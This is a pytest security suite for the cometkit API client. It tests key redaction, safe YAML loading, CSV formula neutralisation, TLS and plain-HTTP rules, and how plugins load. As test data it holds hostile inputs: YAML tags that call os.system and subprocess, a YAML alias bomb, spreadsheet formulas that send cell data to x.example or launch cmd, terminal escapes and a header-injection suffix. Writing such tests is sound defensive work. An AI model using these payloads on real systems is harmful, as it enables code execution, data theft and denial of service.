"""Security properties, end to end: the API key never shows, configuration cannot run code,
the metrics CSV cannot carry spreadsheet formulas, the key never crosses the network in clear
text or over unverified TLS without an explicit opt-in, and plugins load only from where the
user said.

Real client, real loopback servers, real subprocesses for the CLI. Unit-level checks that
already exist (tests/test_config.py: each unsafe tag through ``load_config``, redaction;
tests/test_metrics_sinks.py: the cell quoting rules; tests/test_plugin_system.py: the env
controls and module paths) are not repeated: these tests drive the same properties through
the public entry points a user touches.
"""

from __future__ import annotations

import csv
import json
import logging
import shutil
import ssl
import subprocess
import sys
import threading
import traceback
import uuid
from typing import Any, Optional

import pytest
from scripted_server import Reply, ScriptedServer, chat_body, json_reply
from test_cli_batch import cli_env, run_cli, write_prompts
from test_plugin_system import install_fake_distribution

import cometkit
from cometkit import (
    ATTEMPT_FIELDS,
    CALL_FIELDS,
    APIConnectionError,
    APIError,
    AuthenticationError,
    ConfigError,
)
from cometkit.sandbox import Sandbox
from cometkit.summary import Summary

FAST_BACKOFF = {"base_delay": 0.005, "max_delay": 0.02, "jitter": "full"}


def new_marker(kind: str = "SECRET") -> str:
    """A key no test output could contain by chance."""
    return f"sk-{kind}-MARKER-{uuid.uuid4().hex}"


def exception_texts(exc: BaseException) -> str:
    """Everything an exception shows: str, repr, the formatted traceback with its chain, and
    the error body kept on it."""
    parts = [str(exc), repr(exc),
             "".join(traceback.format_exception(type(exc), exc, exc.__traceback__))]
    cause: Optional[BaseException] = exc
    while cause is not None:
        parts += [str(cause), repr(cause), repr(getattr(cause, "body", None)),
                  str(getattr(cause, "message", ""))]
        cause = cause.__cause__ or cause.__context__
    return "\n".join(parts)


def log_texts(caplog: pytest.LogCaptureFixture) -> str:
    """Every captured record: formatted message, exception text and extra attributes."""
    return caplog.text + "\n".join(repr(vars(record)) for record in caplog.records)


# -------------------------------------------------------------------------------------------
# The API key appears nowhere
# -------------------------------------------------------------------------------------------


@pytest.mark.timeout(60)
def test_api_key_appears_in_no_output_log_or_error(tmp_path, caplog, capsys, monkeypatch):
    key, wrong_key = new_marker(), new_marker("WRONG")
    monkeypatch.setenv("COMETKIT_TRACE_HOOKS", "1")  # hook calls logged at DEBUG as well
    caplog.set_level(logging.DEBUG)  # the root logger: cometkit, urllib3, the sandbox
    attempts_csv, calls_csv = tmp_path / "attempts.csv", tmp_path / "calls.csv"
    config = {"plugins": {
        "backoff": {"retry_on": [429, 500, "read"], "max_attempts": 2, **FAST_BACKOFF},
        "csv_metrics": {"path": str(attempts_csv), "calls_path": str(calls_csv)},
        "stdout_metrics": {"format": "text", "per_attempt": True},
    }}
    errors: list = []
    # a third of the attempts fail (500 or a reset), some calls after their retry too
    with Sandbox(api_key=key, faults={"500": 0.2, "reset": 0.1, "503": 0.05},
                 seed=4) as sandbox:
        client = cometkit.Client(key, sandbox.base_url, config=config)
        shown = [repr(client), repr(client.context), repr(client.chat), str(client.plugins)]
        for i in range(30):
            try:
                client.chat.completions.create(model="m1", messages=[
                    {"role": "user", "content": f"hello {i}"}])
            except APIError as exc:
                errors.append(exc)
        for bad in (lambda: client.request("GET", "/no-such-route"),          # 404
                    lambda: client.chat.completions.create(model="m1",       # 400
                                                           messages="not a list")):
            with pytest.raises(APIError) as info:
                bad()
            errors.append(info.value)
        client.close()
        intruder = cometkit.Client(wrong_key, sandbox.base_url, config=config)
        with pytest.raises(AuthenticationError) as info:
            intruder.chat.completions.create(model="m1", messages=[])
        errors.append(info.value)
        shown.append(repr(intruder))
        intruder.close()

    assert {type(e).__name__ for e in errors} >= {
        "InternalServerError", "APIConnectionError", "NotFoundError", "BadRequestError",
        "AuthenticationError"}, "the run must produce every kind of failure it checks"
    out, err = capsys.readouterr()
    places = {
        "attempts CSV": attempts_csv.read_text(encoding="utf-8"),
        "calls CSV": calls_csv.read_text(encoding="utf-8"),
        "stdout sink": out + err,
        "logs": log_texts(caplog),
        "exceptions": "\n".join(exception_texts(e) for e in errors),
        "reprs": "\n".join(shown),
    }
    assert "request_id" in places["attempts CSV"] and "outcome=" in places["stdout sink"]
    assert "127.0.0.1" in places["logs"]  # urllib3's DEBUG lines were captured
    for secret in (key, wrong_key):
        leaks = [where for where, text in places.items() if secret in text]
        assert leaks == [], f"the API key shows in: {leaks}"


@pytest.mark.timeout(60)
def test_api_key_echoed_by_the_server_is_not_repeated():
    key = new_marker()

    def echo(seen: Any) -> Reply:
        given = seen.headers.get("Authorization", "").removeprefix("Bearer ")
        return json_reply(401, {"error": {"message": f"Incorrect API key provided: {given}",
                                          "type": "invalid_request_error",
                                          "code": "invalid_api_key"}})

    with ScriptedServer(echo) as server, cometkit.Client(key, server.base_url) as client:
        with pytest.raises(AuthenticationError) as info:
            client.chat.completions.create(model="m1", messages=[])
    assert key not in exception_texts(info.value)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("suffix", ["\n", "\r\nX-Injected: 1"])
def test_api_key_with_a_stray_newline_is_refused_without_showing_it(suffix):
    key = new_marker()
    with Sandbox(api_key=key) as sandbox:
        try:
            client = cometkit.Client(key + suffix, sandbox.base_url)
        except ConfigError as exc:  # refused up front: fine, if the key is not in it
            outcome: BaseException = exc
        else:
            with client:
                try:
                    client.chat.completions.create(model="m1", messages=[])
                except Exception as exc:
                    outcome = exc
                else:
                    # surrounding whitespace (a key read from a file) is stripped; a line
                    # break inside the value is refused
                    assert not suffix.strip(), "a key with a line break inside was sent"
                    return
    assert isinstance(outcome, cometkit.CometError), repr(outcome)
    assert key not in exception_texts(outcome)


@pytest.mark.timeout(120)
def test_cli_never_shows_the_key(tmp_path):
    """``config check``, ``plugins`` and ``batch`` (answers, failures, a rejected key), at
    debug verbosity: the key shows in none of their output files or streams."""
    key, wrong_key = new_marker(), new_marker("WRONG")
    prompts = tmp_path / "in.jsonl"
    write_prompts(prompts, 40)
    with open(prompts, "a", encoding="utf-8") as handle:  # a line the server refuses (400)
        handle.write(json.dumps({"custom_id": "bad-1", "method": "POST",
                                 "url": "/v1/chat/completions",
                                 "body": {"model": "m1", "messages": "oops"}}) + "\n")
    with Sandbox(api_key=key, faults={"500": 0.2, "reset": 0.1}, seed=9) as sandbox:
        config = tmp_path / "cometkit.yaml"
        config.write_text(f"base_url: {sandbox.base_url}\napi_key: ${{CK_TEST_KEY}}\n"
                          "plugins:\n  backoff: {retry_on: [429, 500], base_delay: 0.01, "
                          "jitter: full}\n", encoding="utf-8")
        runs = {
            "config check": run_cli("-vv", "config", "check", config, cwd=tmp_path,
                                    env=cli_env(CK_TEST_KEY=key, COMETAPI_KEY=key)),
            "plugins": run_cli("-vv", "plugins", "--config", config, cwd=tmp_path,
                               env=cli_env(CK_TEST_KEY=key)),
            "batch": run_cli("-vv", "batch", prompts, "-o", tmp_path / "out.jsonl",
                             "--config", config, "--metrics-csv", tmp_path / "m.csv",
                             "--no-progress", cwd=tmp_path, env=cli_env(CK_TEST_KEY=key)),
            "batch, wrong key": run_cli("-vv", "batch", prompts, "-o", tmp_path / "401.jsonl",
                                        "--config", config, "--no-progress", cwd=tmp_path,
                                        env=cli_env(CK_TEST_KEY=wrong_key)),
        }
        stats = sandbox.stats()
    assert runs["config check"].returncode == 0, runs["config check"].stderr
    assert runs["plugins"].returncode == 0, runs["plugins"].stderr
    assert runs["batch"].returncode == 1  # the 400 line (and maybe a fault) failed
    assert runs["batch, wrong key"].returncode == 1
    out = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    rejected = [json.loads(line) for line in (tmp_path / "401.jsonl").read_text().splitlines()]
    assert sum(r["error"] is None for r in out) >= 30
    assert all(r["error"]["code"] == "invalid_api_key" for r in rejected) and len(rejected) == 41
    assert stats["attempts_by_status"].get(401) == 41
    texts = {name: run.stdout + run.stderr for name, run in runs.items()}
    texts["batch output"] = (tmp_path / "out.jsonl").read_text()
    texts["batch output, wrong key"] = (tmp_path / "401.jsonl").read_text()
    texts["metrics CSV"] = (tmp_path / "m.csv").read_text()
    assert "DEBUG" in texts["batch"]  # -vv really logged at debug
    for secret in (key, wrong_key):
        leaks = [name for name, text in texts.items() if secret in text]
        assert leaks == [], f"the API key shows in: {leaks}"


# -------------------------------------------------------------------------------------------
# YAML cannot run code
# -------------------------------------------------------------------------------------------

UNSAFE_TAGS = [
    "!!python/object/apply:os.system ['touch {marker}']",
    "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
    "!!python/object/apply:subprocess.check_call [['touch', '{marker}']]",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/object:builtins.object {{}}",
    "!custom-local-tag x",
]


@pytest.mark.parametrize("tag", UNSAFE_TAGS, ids=lambda t: t.split()[0])
def test_unsafe_yaml_is_refused_by_the_client_and_runs_nothing(tmp_path, monkeypatch, tag):
    marker = tmp_path / "ran"
    config = tmp_path / "cometkit.yaml"
    config.write_text("concurrency: 2\nplugins:\n  backoff:\n    max_attempts: "
                      + tag.format(marker=marker) + "\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        cometkit.Client("k", "https://api.example.invalid/v1", config=str(config))
    message = str(info.value)
    assert message.startswith(f"{config}: line 4, column 19: tag ")
    assert "is not allowed" in message and "safe loading" in message
    assert info.value.path == str(config)
    # the same through $COMETKIT_CONFIG, the file a client reads when given none
    monkeypatch.setenv("COMETKIT_CONFIG", str(config))
    with pytest.raises(ConfigError, match="line 4, column 19: tag .* is not allowed"):
        cometkit.Client("k", "https://api.example.invalid/v1")
    assert not marker.exists()


@pytest.mark.timeout(120)
def test_unsafe_yaml_is_refused_by_config_check_naming_file_and_line(tmp_path):
    marker = tmp_path / "ran"
    for index, tag in enumerate(UNSAFE_TAGS):
        config = tmp_path / f"bad{index}.yaml"
        config.write_text("api_key: ${NOPE:-x}\ntimeout: " + tag.format(marker=marker) + "\n",
                          encoding="utf-8")
        done = run_cli("config", "check", config, cwd=tmp_path)
        assert done.returncode == 2, tag
        assert done.stdout == ""
        assert f"{config}: line 2, column 10: tag " in done.stderr, done.stderr
        assert "is not allowed" in done.stderr
    assert not marker.exists()


ALIAS_BOMB = """\
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h, *h]
"""


@pytest.mark.timeout(60)
def test_yaml_alias_bomb_is_refused_at_once(tmp_path):
    config = tmp_path / "bomb.yaml"
    config.write_text(ALIAS_BOMB, encoding="utf-8")
    # A ceiling against a hang, not a speed check: a refusal takes a fraction of a second,
    # the current code needs hours (and gigabytes).
    try:
        done = run_cli("config", "check", config, cwd=tmp_path, timeout=5)
    except subprocess.TimeoutExpired:
        pytest.fail("`cometkit config check` on a 9-line alias bomb did not end in 5 s")
    assert done.returncode == 2 and str(config) in done.stderr


# -------------------------------------------------------------------------------------------
# Spreadsheet formulas are neutralised in the metrics CSV
# -------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+1", "-2+3", "@SUM(A1)",
            "=cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"]


@pytest.mark.timeout(60)
def test_formulas_from_callers_and_servers_are_neutralised_in_the_csv(tmp_path):
    """Model names (from the caller), answer models and request ids (from the server) are
    written so that no spreadsheet evaluates them, and read back unchanged by the report."""
    lock = threading.Lock()
    served: list = []

    def handler(seen: Any) -> Reply:
        model = seen.json()["model"]
        with lock:
            served.append(model)
            n = len(served)
        headers = {"x-request-id": "=2+5" if n % 2 else "@evil"}
        if model == "+1":  # an error answer whose message is a formula too
            return json_reply(500, {"error": {"message": "=HYPERLINK(\"http://x\")"}},
                              **headers)
        return json_reply(200, chat_body(model=model), **headers)

    attempts_csv, calls_csv = tmp_path / "a.csv", tmp_path / "c.csv"
    config = {"plugins": {"csv_metrics": {"path": str(attempts_csv),
                                          "calls_path": str(calls_csv)}}}
    with ScriptedServer(handler) as server, cometkit.Client("k", server.base_url,
                                                           config=config) as client:
        for model in FORMULAS:
            try:
                client.chat.completions.create(model=model, messages=[])
            except APIError:
                assert model == "+1"
    assert len(served) == len(FORMULAS)

    text_columns = {"request_id", "operation", "method", "route", "server_address", "model",
                    "response_model", "error_type", "outcome", "provider_request_id"}
    for path, fields in ((attempts_csv, ATTEMPT_FIELDS), (calls_csv, CALL_FIELDS)):
        with open(path, newline="", encoding="utf-8") as handle:
            header, *rows = list(csv.reader(handle))
        assert header == list(fields) and len(rows) == len(FORMULAS)
        for row in rows:
            cells = dict(zip(header, row))
            for name in text_columns & set(header):
                value = cells[name]
                assert value[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), \
                    f"{path.name}: {name} = {value!r} would run as a formula"
        models = [dict(zip(header, row))["model"] for row in rows]
        assert sorted(models) == sorted("'" + m for m in FORMULAS)
    with open(attempts_csv, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        seen_ids = {row["provider_request_id"] for row in reader}
    assert seen_ids == {"'=2+5", "'@evil"}
    # `cometkit report` shows the original names
    reported = {row["model"] for row in Summary.from_csv(str(attempts_csv)).rows()}
    assert set(FORMULAS) <= reported


@pytest.mark.timeout(60)
def test_terminal_escapes_from_the_server_are_escaped_in_stdout_lines(capsys):
    """The stdout sink writes to a terminal: server-chosen text must not move the cursor,
    retitle the window or clear the screen."""
    evil = "m\x1b]0;pwned\x07\x1b[2J\r"
    reply = json_reply(200, chat_body(model=evil), **{"x-request-id": "id\x1b[31m"})
    for fmt in ("text", "json"):
        config = {"plugins": {"stdout_metrics": {"format": fmt, "summary": True}}}
        with ScriptedServer(lambda s: reply) as server, \
                cometkit.Client("k", server.base_url, config=config) as client:
            client.chat.completions.create(model="m1", messages=[])
        out = capsys.readouterr().out
        assert "response_model" in out
        assert "\x1b" not in out and "\x07" not in out, f"{fmt}: {out!r}"


# -------------------------------------------------------------------------------------------
# No clear-text key over the network, no silent loss of TLS verification
# -------------------------------------------------------------------------------------------

REMOTE_HTTP = [
    "http://api.cometapi.com/v1",
    "http://10.0.0.7:8080/v1",
    "http://0.0.0.0:8080/v1",
    "http://127.0.0.1.nip.io/v1",
    "http://localhost.evil.example/v1",
    "http://127.0.0.1@evil.example/v1",
    "http://[::ffff:8.8.8.8]/v1",
    "HTTP://API.COMETAPI.COM/v1",
]
LOOPBACK_HTTP = ["http://127.0.0.1:9/v1", "http://127.8.9.10:9/v1", "http://localhost:9/v1",
                 "http://[::1]:9/v1", "http://sandbox.localhost:9/v1"]


@pytest.mark.parametrize("url", REMOTE_HTTP)
def test_plain_http_to_another_host_is_refused_from_every_source(tmp_path, monkeypatch, url):
    config = tmp_path / "cometkit.yaml"
    config.write_text(f"base_url: {url}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        cometkit.Client("k", config=str(config))
    assert str(info.value).startswith(f"{config}: base_url: ")
    assert "clear text" in str(info.value) and "allow_insecure_http" in str(info.value)
    monkeypatch.setenv("COMETAPI_BASE_URL", url)
    with pytest.raises(ConfigError, match="clear text"):
        cometkit.Client("k")
    # an explicit opt-in in the file is honoured
    config.write_text(f"base_url: {url}\nallow_insecure_http: true\n", encoding="utf-8")
    cometkit.Client("k", config=str(config)).close()


@pytest.mark.parametrize("url", LOOPBACK_HTTP)
def test_plain_http_to_this_machine_is_allowed(url):
    cometkit.Client("k", url).close()


@pytest.mark.timeout(60)
def test_loopback_http_is_not_sent_through_a_remote_proxy(monkeypatch):
    for name in ("NO_PROXY", "no_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY",
                 "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    # .invalid never resolves (RFC 2606): nothing leaves the machine either way
    monkeypatch.setenv("HTTP_PROXY", "http://proxy.example.invalid:3128")
    monkeypatch.setenv("http_proxy", "http://proxy.example.invalid:3128")
    with ScriptedServer() as server:
        try:
            client = cometkit.Client("k", server.base_url, timeout={"connect": 5, "read": 10})
        except ConfigError as exc:  # refusing is fine too
            assert "proxy" in str(exc).lower()
            return
        with client:
            try:
                client.chat.completions.create(model="m1", messages=[])
            except APIConnectionError:
                pass
        assert server.count == 1, "the call went to the proxy, not straight to 127.0.0.1"


@pytest.mark.timeout(60)
def test_a_redirect_never_carries_the_key_to_another_server():
    key = new_marker()
    with ScriptedServer() as elsewhere:
        target = elsewhere.base_url + "/chat/completions"
        redirect = Reply(307, b"", {"Location": target})
        with ScriptedServer(lambda s: redirect) as server, \
                cometkit.Client(key, server.base_url) as client:
            with pytest.raises(APIError) as info:
                client.chat.completions.create(model="m1", messages=[])
        assert elsewhere.count == 0
    assert server.count == 1
    assert target in str(info.value) and key not in exception_texts(info.value)


def test_verify_false_is_accepted_only_with_a_loud_warning(tmp_path, caplog):
    caplog.set_level(logging.WARNING)
    config = tmp_path / "cometkit.yaml"
    for source in ({"verify": False}, str(config)):
        config.write_text("verify: false\n", encoding="utf-8")
        caplog.clear()
        kwargs = dict(source) if isinstance(source, dict) else {"config": source}
        cometkit.Client("k", "https://api.example.invalid/v1", **kwargs).close()
        warnings = [r for r in caplog.records if r.levelno == logging.WARNING
                    and "verif" in r.getMessage()]
        assert len(warnings) == 1, caplog.text
        message = warnings[0].getMessage()
        assert warnings[0].name.startswith("cometkit")
        assert "verify: false" in message and "API key" in message
    caplog.clear()
    cometkit.Client("k", "https://api.example.invalid/v1").close()  # the default: silent
    assert not [r for r in caplog.records if "verif" in r.getMessage()]


@pytest.fixture
def tls_server(tmp_path):
    """A loopback HTTPS server with a self-signed certificate for 127.0.0.1."""
    openssl = shutil.which("openssl")
    if openssl is None:  # pragma: no cover - openssl ships with every supported platform
        pytest.skip("needs the openssl command to make a certificate")
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run([openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", str(key), "-out", str(cert)],
                   check=True, capture_output=True, timeout=60)
    server = ScriptedServer()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.httpd.socket = context.wrap_socket(server.httpd.socket, server_side=True)
    with server:
        server.https_url = server.base_url.replace("http://", "https://")
        server.cert = str(cert)
        yield server


@pytest.mark.timeout(60)
@pytest.mark.filterwarnings("ignore::urllib3.exceptions.InsecureRequestWarning")
def test_tls_verification_stays_on_unless_turned_off_explicitly(tls_server, monkeypatch,
                                                                caplog):
    url = tls_server.https_url
    # Empty CA-bundle variables once turned verification off in requests: not here.
    monkeypatch.setenv("CURL_CA_BUNDLE", "")
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", "")
    with cometkit.Client("k", url, timeout=10) as client:
        with pytest.raises(APIConnectionError) as info:
            client.chat.completions.create(model="m1", messages=[])
    assert info.value.stage == "connect"  # the handshake failed: nothing was sent
    assert "CERTIFICATE_VERIFY_FAILED" in str(info.value)
    assert tls_server.count == 0
    # a private CA bundle is the way to trust it ...
    with cometkit.Client("k", url, timeout=10, verify=tls_server.cert) as client:
        assert client.chat.completions.create(model="m1", messages=[]).model == "m1"
    # ... and turning verification off works, but never silently
    caplog.set_level(logging.WARNING)
    with cometkit.Client("k", url, timeout=10, verify=False) as client:
        assert client.chat.completions.create(model="m1", messages=[]).model == "m1"
    assert any("verify: false" in r.getMessage() for r in caplog.records)
    assert tls_server.count == 2


# -------------------------------------------------------------------------------------------
# Plugins load only from where the user said
# -------------------------------------------------------------------------------------------

SIDE_EFFECT = "import pathlib\npathlib.Path({marker!r}).write_text('imported')\n"


def test_a_bare_module_name_in_config_is_refused_without_importing_it(tmp_path, monkeypatch):
    marker = tmp_path / "imported"
    (tmp_path / "ck_bare_module.py").write_text(SIDE_EFFECT.format(marker=str(marker)))
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "ck_bare_module", raising=False)
    with pytest.raises(ConfigError, match="unknown plugin 'ck_bare_module'"):
        cometkit.Client("k", "https://api.example.invalid/v1",
                        config={"plugins": {"ck_bare_module": True}})
    assert not marker.exists() and "ck_bare_module" not in sys.modules


@pytest.mark.parametrize("control", ["COMETKIT_DISABLE_PLUGIN_AUTOLOAD=1",
                                     "COMETKIT_DISABLE_PLUGINS=sneaky",
                                     "COMETKIT_LOAD_PLUGINS=backoff,limiter"])
def test_env_controls_keep_an_installed_plugin_from_even_being_imported(tmp_path, monkeypatch,
                                                                         control):
    marker = tmp_path / "imported"
    install_fake_distribution(tmp_path, monkeypatch, "sneaky",
                              SIDE_EFFECT.format(marker=str(marker)), module="ck_sneaky_mod",
                              dist="sneaky-cometkit-plugin")
    name, _, value = control.partition("=")
    monkeypatch.setenv(name, value)
    with cometkit.Client("k", "https://api.example.invalid/v1") as client:
        assert "sneaky" not in client.plugins
    assert not marker.exists(), f"{control}: the plugin module was imported"
    monkeypatch.delenv(name)  # control: without it, the installed plugin is imported
    monkeypatch.delitem(sys.modules, "ck_sneaky_mod", raising=False)
    cometkit.Client("k", "https://api.example.invalid/v1").close()
    assert marker.exists()


# -------------------------------------------------------------------------------------------
# A key no header can carry; secrets in reprs; every spelling of an echoed key
# -------------------------------------------------------------------------------------------

UNSENDABLE = {
    "byte-order mark from a key file": ("\ufeff{key}", "U+FEFF"),
    "zero-width space from a copy": ("{head}\u200b{tail}", "U+200B"),
    "non-breaking space": ("{head}\u00a0{tail}", "U+00A0"),
    "non-latin-1 letter": ("{head}\u0437{tail}", "U+0437"),
    "latin-1 letter": ("{head}\u00e9{tail}", "U+00E9"),
    "space inside": ("{head} {tail}", "U+0020"),
    "tab inside": ("{head}\t{tail}", "U+0009"),
}


@pytest.mark.parametrize("kind", list(UNSENDABLE))
def test_a_key_no_header_can_carry_is_refused_at_construction_without_showing_it(
        kind, tmp_path, monkeypatch):
    """From the argument, the config file and ``$COMETAPI_KEY``: a ``ConfigError`` naming
    the character, never the key (before: accepted, then a raw ``UnicodeEncodeError`` whose
    repr held the whole key, on every call)."""
    key = new_marker()
    template, code = UNSENDABLE[kind]
    bad = template.format(key=key, head=key[:20], tail=key[20:])
    config = tmp_path / "cometkit.yaml"
    config.write_text(json.dumps({"api_key": bad}), encoding="utf-8")
    attempts = {
        "argument": lambda: cometkit.Client(bad, "http://127.0.0.1:9/v1"),
        "config file": lambda: cometkit.Client(base_url="http://127.0.0.1:9/v1",
                                               config=str(config)),
        "environment": lambda: cometkit.Client(base_url="http://127.0.0.1:9/v1"),
    }
    monkeypatch.setenv("COMETAPI_KEY", bad)
    for source, build in attempts.items():
        with pytest.raises(ConfigError) as info:
            build()
        text = exception_texts(info.value)
        assert code in str(info.value) and "api_key" in str(info.value), source
        assert key not in text and key[:20] not in text and key[20:] not in text, source
        assert info.value.key == "api_key"


def test_repr_of_the_client_context_hides_secret_plugin_options():
    password = "hunter2-" + uuid.uuid4().hex
    url = f"redis://:{password}@127.0.0.1:9/0"
    config = {"plugins": {"redis_limiter": {"url": url, "on_redis_error": "local"}}}
    with cometkit.Client("k", "http://127.0.0.1:9/v1", config=config) as client:
        options = client.context.options("redis_limiter")
        assert options["url"] == url  # still the value itself where it is used
        shown = [repr(client.context), str(client.context), repr(options),
                 repr(dict(client.context.plugin_options))]
    for text in shown:
        assert password not in text
        assert "'url': '***'" in text


ECHOES = {
    "literal": lambda key: key,
    "JSON \\u escapes": lambda key: "".join(f"\\u{ord(c):04X}" for c in key),
    "JSON escaped slash": lambda key: key.replace("/", "\\/"),
    "percent-encoded": lambda key: "".join(f"%{ord(c):02x}" for c in key),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("spelling", list(ECHOES))
def test_every_spelling_of_an_echoed_key_is_blanked_in_error_and_answer(spelling):
    """A key with a slash (some gateways issue such keys) echoed in an error body, a
    redirect location and a success body, spelled as a server might."""
    key = new_marker() + "/x"
    echo = ECHOES[spelling](key)

    def handler(seen: Any) -> Reply:
        if seen.path.endswith("/models"):
            return Reply(302, b"", {"Location": f"http://127.0.0.1:9/?k={echo}"})
        body = ('{"error": {"message": "bad key ECHO"}}' if seen.path.endswith("/embeddings")
                else '{"id": "x", "model": "ECHO", "choices": []}').replace("ECHO", echo)
        status = 401 if seen.path.endswith("/embeddings") else 200
        return Reply(status, body.encode(), {"Content-Type": "application/json"})

    with ScriptedServer(handler) as server, cometkit.Client(key, server.base_url) as client:
        with pytest.raises(AuthenticationError) as denied:
            client.embeddings.create(model="e1", input="x")
        with pytest.raises(APIError) as redirected:
            client.models.list()
        answer = client.chat.completions.create(model="m1", messages=[])
    assert "bad key ***" in str(denied.value)
    assert "k=***" in str(redirected.value)
    assert answer.model == "***"
    for text in (exception_texts(denied.value), exception_texts(redirected.value),
                 json.dumps(answer.to_dict())):
        assert key not in text and echo not in text
